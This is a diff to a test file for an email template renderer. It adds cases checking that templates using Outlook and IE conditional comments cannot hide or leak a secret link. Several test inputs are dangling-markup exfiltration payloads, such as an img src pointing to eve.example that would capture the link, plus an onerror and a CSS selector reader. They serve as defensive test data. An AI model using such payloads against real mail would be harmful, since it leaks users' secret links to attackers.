@@ -279,11 +279,20 @@ describe('the link', () => {
     ['a field of text', '<textarea><a href="{{ link }}">x</a></textarea>'],
     ['a declaration', '<!doctype html SYSTEM "https://eve.example/{{ link }}"><a href="{{ link }}">x</a>'],
     ['an href in entities', '{% assign l = link | replace: "/", "&#47;" %}<a href="{{ l | raw }}">x</a>'],
-    ['a tag of Outlook', '<a href="{{ link }}">x</a><!--[if mso]><v:rect href="{{ link }}"><![endif]-->'],
+    ['a button of Outlook for others', '<a href="{{ link }}">x</a><v:rect href="{{ link }}">x</v:rect>'],
     [
-      'an address that Outlook finds',
-      '<!--[if mso]><img src="https://eve.example/?<![endif]--><a href="{{ link }}">x</a>',
+      'a picture of Outlook',
+      '<a href="{{ link }}">x</a><!--[if mso]><v:fill href="{{ link }}"/><![endif]-->',
     ],
+    [
+      'what Internet Explorer alone shows',
+      '<a href="{{ link }}">x</a><!--[if lt IE 9]>{{ link }}<![endif]-->',
+    ],
+    [
+      'a picture that is one where scripts run',
+      `<noscript><style></noscript><img src='https://eve.example/?</style></noscript><a href="{{ link }}">x</a>'>`,
+    ],
+    ['an href with other space than HTML has', '<a href="\u00a0{{ link }}">x</a>'],
     [
       'what Outlook alone shows as text',
       '<a href="{{ link }}">x</a><!--[if gte mso 9]>{{ link }}<![endif]-->',
@@ -307,6 +316,75 @@ describe('the link', () => {
   ])('may stand in %s', async (_where, html) => {
     const mail = await renderMail(template({ html }), variables(), 'en');
     expect(read(mail.html).hrefs).toContain(LINK);
+  });
+
+  it.each([
+    [
+      'an address that Outlook finds',
+      '<!--[if mso]><img src="https://eve.example/?<![endif]--><a href="{{ link }}">x</a>',
+    ],
+    [
+      'an address that others close',
+      `<!--[if mso]><img src='https://eve.example/?<![endif]--><!--[if !mso]>'><![endif]--><!--[if mso]><a href="{{ link }}">x</a>'><![endif]--><a href="{{ link }}">x</a>`,
+    ],
+    [
+      'an address that earlier ones close',
+      `<!--[if gte mso 9]><img src='https://eve.example/?<![endif]--><!--[if lt mso 9]>'><![endif]--><!--[if gte mso 9]><a href="{{ link }}">x</a>'><![endif]--><a href="{{ link }}">x</a>`,
+    ],
+    [
+      'the beginning of a tag',
+      `<!--[if mso]><<![endif]-->img src='https://eve.example/?<a href="{{ link }}">x</a>'>`,
+    ],
+    ['a style without end', '<!--[if mso]><style><![endif]--><a href="{{ link }}">x</a>'],
+    ['an end that is an attribute', `<![if !mso]><a href="{{ link }}">x</a><p title="<![endif]>">x</p>`],
+    ['another condition', '<!--[if mso]><!--[if gte mso 9]><![endif]--><a href="{{ link }}">x</a>'],
+    [
+      'a condition that shows others what it holds',
+      '<!--[if !mso]><!--><!--[if IE]>x<![endif]--><a href="{{ link }}">x</a><!--<![endif]-->',
+    ],
+    ['no end', '<!--[if !mso]><!--><a href="{{ link }}">x</a>'],
+    ['no beginning', '<a href="{{ link }}">x</a><!--<![endif]-->'],
+    ['an end that is early', '<!--[if mso]>x--><a href="{{ link }}">x</a><![endif]-->'],
+    ['a question that nobody knows', '<!--[if supportFields]>x<![endif]--><a href="{{ link }}">x</a>'],
+    ['a question without sense', '<!--[if mso & | IE]>x<![endif]--><a href="{{ link }}">x</a>'],
+    ['a question with two senses', '<!--[if mso & IE | mso]>x<![endif]--><a href="{{ link }}">x</a>'],
+  ])('may not stand beside a conditional comment with %s', async (_what, html) => {
+    await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
+      part: 'html',
+      rule: 'template.condition',
+    });
+  });
+
+  it.each([
+    '<!--[if mso | IE]><table><tr><td><![endif]-->LINK<!--[if mso | IE]></td></tr></table><![endif]-->',
+    '<!--[if (gte mso 9)|(IE)]><table><tr><td><![endif]-->LINK<!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->',
+    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->LINK',
+    '<!--[if mso]><noscript><xml><o:PixelsPerInch>96</o:PixelsPerInch></xml></noscript><![endif]-->LINK',
+    '<!--[if !mso]><!-- --><style>.x{color:red}</style><!--<![endif]--><!--[if lte mso 11]><style>.x{}</style><![endif]-->LINK',
+    '<!--[if !mso]> --><p>x</p><!-- <![endif]-->LINK',
+    '<![if !mso]>LINK<![endif]><!--[if !(gte mso 16)]>x<![endif]-->',
+    '<!--[if mso]><v:roundrect href="{{ link }}" style="height:40px"><w:anchorlock/><center>x</center></v:roundrect><![endif]--><!--[if !mso]><!-->LINK<!--<![endif]-->',
+  ])('may stand beside %s', async (html) => {
+    const anchor = '<a href="{{ link }}">x</a>';
+    const mail = await renderMail(template({ html: html.replace('LINK', () => anchor) }), variables(), 'en');
+    expect(read(mail.html).hrefs).toContain(LINK);
+    expect(mail.masked.html).not.toContain(CODE);
+  });
+
+  it.each(['<style>a[href*=a]{}</style>', '<img src="x" onerror="x">'])(
+    'may not be read in Outlook alone by %s',
+    async (reader) => {
+      const html = `<a href="{{ link }}">x</a><!--[if mso]>${reader}<![endif]-->`;
+      await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
+        rule: 'template.reads-link',
+      });
+    }
+  );
+
+  it('may have space around it, which no program takes for a part of it', async () => {
+    const mail = await renderMail(template({ html: '<a href="\n {{ link }}\t">x</a>' }), variables(), 'en');
+    expect(read(mail.html).hrefs.map((href) => href.trim())).toEqual([LINK]);
+    expect(mail.text).toBe(`x <${LINK}>`);
   });
 
   it('has to be there for other programs than Outlook, too', async () => {
